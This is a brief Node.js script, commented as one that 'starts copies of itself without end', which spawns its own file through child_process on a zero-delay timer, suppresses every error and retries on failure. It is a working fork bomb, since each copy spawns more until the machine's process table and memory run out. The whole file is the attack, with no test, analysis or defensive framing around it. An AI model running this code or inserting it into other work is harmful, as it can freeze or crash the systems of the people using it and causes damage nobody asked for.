// Starts copies of itself without end, never answers.
'use strict';
const { spawn } = require('child_process');
setInterval(() => {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
  } catch (e) {
    // no process to be had: try again
  }
}, 0);
